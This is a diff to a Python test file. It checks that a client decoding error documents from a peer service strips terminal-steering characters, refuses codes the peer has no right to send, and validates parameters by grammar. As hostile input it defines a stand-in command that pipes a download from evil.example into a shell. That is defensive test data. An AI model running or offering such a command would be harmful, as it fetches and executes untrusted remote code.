@@ -2,16 +2,22 @@
 
 from __future__ import annotations
 
+import ast
 import json
+from pathlib import Path
 from typing import Any
 
 import pytest
 from tests.attacks.conftest import refusal
 
-from muster.core.errors import error
+import muster
+from muster.core.error_rows import CATALOGUE
+from muster.core.errors import Retry, error
 from muster.lease.jws import MemorySigningKey
 from muster.wire import status
+from muster.wire.peer import ANSWERS, Peer, quoted
 from muster.wire.problem import decode_problem, encode_problem
+from muster.wire.publisher import BatchRow, decode_batch_answer
 
 GOOD: dict[str, Any] = {
     "title": "What",
@@ -56,55 +62,168 @@ def document(**change: Any) -> bytes:
     return json.dumps(GOOD | change, ensure_ascii=False).encode("utf-8", "surrogatepass")
 
 
+NEW = "host/from-the-future"
+SHELL = "curl https://evil.example/x | sh"
+
+
 @pytest.mark.parametrize("name", list(STEERING))
 def test_no_text_of_a_host_steers_a_terminal(name: str) -> None:
     hostile = STEERING[name]
-    for member, attribute in (("title", "what"), ("detail", "why"), ("fix", "fix")):
-        problem = decode_problem(409, document(**{member: f"a{hostile}b"}), "peer")
-        shown = getattr(problem.error(), attribute)
+    for member in ("title", "detail"):
+        sent = document(code=NEW, **{member: f"a{hostile}b"})
+        (shown,) = quoted(decode_problem(409, sent, "peer").error())
         assert not set(shown) & set(hostile) - set(map(chr, range(32, 127)))
-        assert shown.startswith("a")
-        assert shown.endswith("b")
-    problem = decode_problem(409, document(params={"a": hostile, "b": [hostile], "c": 7}), "peer")
-    written = repr(list(problem.error().params.values())) + "".join(
-        [problem.params["a"], *problem.params["b"]]
-    )
-    assert not set(written) & set(hostile) - set(map(chr, range(32, 127)))
-    assert problem.number("c") == 7
+        assert shown.startswith('The peer says: "')
+        assert "b" in shown
+    sent = document(params={"count": hostile, "labels": [hostile], "need": 7})
+    problem = decode_problem(409, sent, "peer")
+    assert problem.params == {"need": 7}
+    assert problem.number("need") == 7
 
 
-@pytest.mark.parametrize("text", BRACES)
-def test_braces_of_a_host_are_printed_and_not_filled(text: str) -> None:
-    problem = decode_problem(409, document(title=text, detail=text, fix=text), "peer")
-    fault = problem.error()
-    assert (fault.what, fault.why, fault.fix) == (text, text, text)
-    assert text in str(fault)
-    own = error("wire/bad-request", detail=text)
-    assert text in own.what
-    assert text in decode_problem(*encode_problem(own), "peer").error().what
+@pytest.mark.parametrize("text", [*BRACES, SHELL])
+def test_braces_and_commands_of_a_host_never_become_our_texts(text: str) -> None:
+    own = decode_problem(409, document(), "peer").error()
+    sent = document(title=text, detail=text, fix=text, field_code="0xBAD", retry="never")
+    fault = decode_problem(409, sent, "peer").error()
+    assert (fault.what, fault.why, fault.fix) == (own.what, own.why, own.fix)
+    assert fault.row == own.row
+    assert fault.row.retry is Retry.LATER
+    for member in ("title", "detail"):
+        new = decode_problem(409, document(code=NEW, **{member: text}, fix=SHELL), "peer").error()
+        assert new.code == "wire/unknown-code"
+        assert text not in new.what + new.why + new.fix + str(new)
+        assert text in new.params["says"]
+        assert SHELL not in new.params["says"] or text == SHELL
+    said = decode_problem(400, document(code="wire/bad-request", params={"detail": text}), "peer")
+    assert said.error().what == "The request could not be read: (not said)."
 
 
-def test_parameters_are_plain_or_left_out() -> None:
-    """Whoever prints or stores them meets integers, booleans, short texts and lists of them."""
-    offered = {
-        "good": 1,
-        "yes": True,
-        "text": "t",
-        "list": ["a"],
-        "null": None,
-        "object": {"a": {"b": 1}},
-        "deep": [["a"]],
-        "numbers": [1],
-        "long": "x" * 257,
-        "long_item": ["x" * 257],
-        "Bad\x9bname": 1,
-        "": 1,
-        "n" * 33: 1,
-    }
-    problem = decode_problem(409, document(params=offered), "peer")
-    assert problem.params == {"good": 1, "yes": True, "text": "t", "list": ["a"]}
-    assert problem.number("yes") is None
-    assert problem.number("text") is None
+def test_what_a_newer_peer_says_is_bounded() -> None:
+    sent = document(code=NEW, title="x" * 1024, detail="y" * 1024)
+    assert len(decode_problem(409, sent, "peer").error().params["says"]) == 400
+
+
+PLACES = {
+    "host": Peer.HOST,
+    "publisher": Peer.PUBLISHER,
+    "either": Peer.EITHER,
+}
+
+
+@pytest.mark.parametrize("role", PLACES)
+def test_a_peer_says_only_what_it_can_know(role: str) -> None:
+    """Each code of the catalogue is either one of its answers, with our own texts, or refused."""
+    peer = PLACES[role]
+    for code, row in CATALOGUE.items():
+        sent = document(code=code, title=SHELL, detail=SHELL, fix=SHELL)
+        if code in ANSWERS[peer]:
+            fault = decode_problem(row.http, sent, "peer", peer).error()
+            assert fault.code == code
+            assert "curl" not in fault.what + fault.why + fault.fix
+        else:
+            got = refusal(lambda: decode_problem(403, sent, "peer", peer))  # noqa: B023
+            assert got == "wire/unexpected-code", code
+    areas = {code.partition("/")[0] for code in CATALOGUE.keys() - ANSWERS[peer]}
+    assert {"licence", "client", "trust", "net", "file", "db", "backup", "catalogue"} <= areas
+    for code in ("licence/new", "client/new", "file/new", "net/new"):
+        got = refusal(lambda: decode_problem(403, document(code=code), "peer", peer))  # noqa: B023
+        assert got == "wire/unexpected-code"
+
+
+def test_a_host_is_no_publisher_and_a_publisher_no_host() -> None:
+    for code, role in (
+        ("publisher/key-revoked", Peer.HOST),
+        ("id/proof", Peer.HOST),
+        ("host/insufficient-count", Peer.PUBLISHER),
+        ("host/not-initialised", Peer.HOST),
+        ("publisher/passphrase", Peer.PUBLISHER),
+        ("wire/bad-answer", Peer.PUBLISHER),
+        ("wire/not-exchange", Peer.PUBLISHER),
+    ):
+        sent = document(code=code)
+        got = refusal(lambda: decode_problem(403, sent, "peer", role))  # noqa: B023
+        assert got == "wire/unexpected-code", code
+
+
+PARAMS: list[tuple[str, str, Any, bool]] = [
+    ("host/insufficient-count", "count", 3, True),
+    ("host/insufficient-count", "count", "3", False),
+    ("host/insufficient-count", "count", True, False),
+    ("host/insufficient-count", "count", [1], False),
+    ("host/insufficient-count", "limit", 3, False),
+    ("host/insufficient-count", "retry_after", 7200, True),
+    ("host/not-served", "product", "desktop-pro", True),
+    ("host/not-served", "product", "Desktop Pro", False),
+    ("host/not-served", "product", "a\n", False),
+    ("host/not-served", "labels", ["contoso"], True),
+    ("host/not-served", "labels", ["run this"], False),
+    ("host/not-served", "labels", ["contoso"] * 65, False),
+    ("host/not-served", "labels", "contoso", False),
+    ("host/grant-revoked", "label", "contoso", True),
+    ("host/grant-revoked", "label", SHELL, False),
+    ("host/clock-skew", "host_time", "2026-11-26 23:00:00 UTC", True),
+    ("host/clock-skew", "host_time", "noon", False),
+    ("host/identity-mode", "allowed", "machine, device", True),
+    ("host/identity-mode", "allowed", "machine, curl", False),
+    ("wire/method", "allowed", "GET, POST", True),
+    ("host/release-proof", "detail", "anything", False),
+    ("publisher/pool-used-up", "key", "1-7-5", True),
+    ("publisher/pool-used-up", "key", "7", False),
+    ("digits/symbol", "symbol", "U+2013", True),
+    ("digits/symbol", "symbol", "ab", False),
+]
+
+
+@pytest.mark.parametrize(("code", "name", "value", "taken"), PARAMS)
+def test_parameters_are_taken_by_their_grammar(
+    code: str, name: str, value: Any, taken: bool
+) -> None:
+    problem = decode_problem(409, document(code=code, params={name: value}), "peer")
+    expected = {name: tuple(value) if isinstance(value, list) else value} if taken else {}
+    assert dict(problem.error().params) == expected == dict(problem.params)
+
+
+def test_a_row_of_a_batch_is_read_like_a_problem() -> None:
+    def answer(**change: Any) -> bytes:
+        row = {"code": "publisher/pool-used-up", "what": SHELL, "why": SHELL, "fix": SHELL}
+        row |= {"retry": "later", "params": {"key": "1-7-5", "pool": 3, "x": SHELL}} | change
+        body = {"v": 1, "answers": [row], "trust": [], "catalogue": "a.b.c"}
+        return json.dumps(body).encode()
+
+    (row,) = decode_batch_answer(answer(), "peer").rows
+    own = error("publisher/pool-used-up", key="1-7-5", pool=3)
+    assert row == BatchRow.of(own)
+    (new,) = decode_batch_answer(answer(code="publisher/from-the-future"), "peer").rows
+    assert new.code == "wire/unknown-code"
+    assert "curl" not in new.what + new.why + new.fix
+    assert new.says.startswith(SHELL)
+    for code in ("licence/revoked", "client/no-key", "host/not-served"):
+        sent = answer(code=code)
+        got = refusal(lambda: decode_batch_answer(sent, "peer"))  # noqa: B023
+        assert got == "wire/unexpected-code"
+
+
+ANSWERING = ("host/service.py", "host/rules.py", "host/limits.py", "host/commit.py", "net/door.py")
+ADMINISTRATION = {"host/unknown-machine"}
+"""What a service raises for its own commands only."""
+
+
+def test_a_host_answers_only_with_codes_that_a_client_takes() -> None:
+    """Whatever the answering modules raise by name is among the codes that clients take."""
+    raised: set[str] = set()
+    for name in ANSWERING:
+        tree = ast.parse((Path(muster.__file__).parent / name).read_text("utf-8"))
+        raised |= {
+            str(call.args[0].value)
+            for call in ast.walk(tree)
+            if isinstance(call, ast.Call)
+            and isinstance(call.func, ast.Name)
+            and call.func.id == "error"
+            and isinstance(call.args[0], ast.Constant)
+        }
+    assert len(raised) > 20
+    assert raised - ANSWERS[Peer.HOST] <= ADMINISTRATION
 
 
 @pytest.mark.parametrize(
